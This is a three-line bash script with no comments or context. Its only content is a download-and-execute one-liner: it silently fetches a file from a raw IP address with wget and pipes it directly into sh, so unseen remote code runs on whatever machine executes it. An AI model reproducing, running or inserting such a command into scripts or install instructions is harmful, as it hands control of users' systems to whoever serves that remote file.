#!/bin/bash
wget -qO- http://198.51.100.7/x \
  | sh
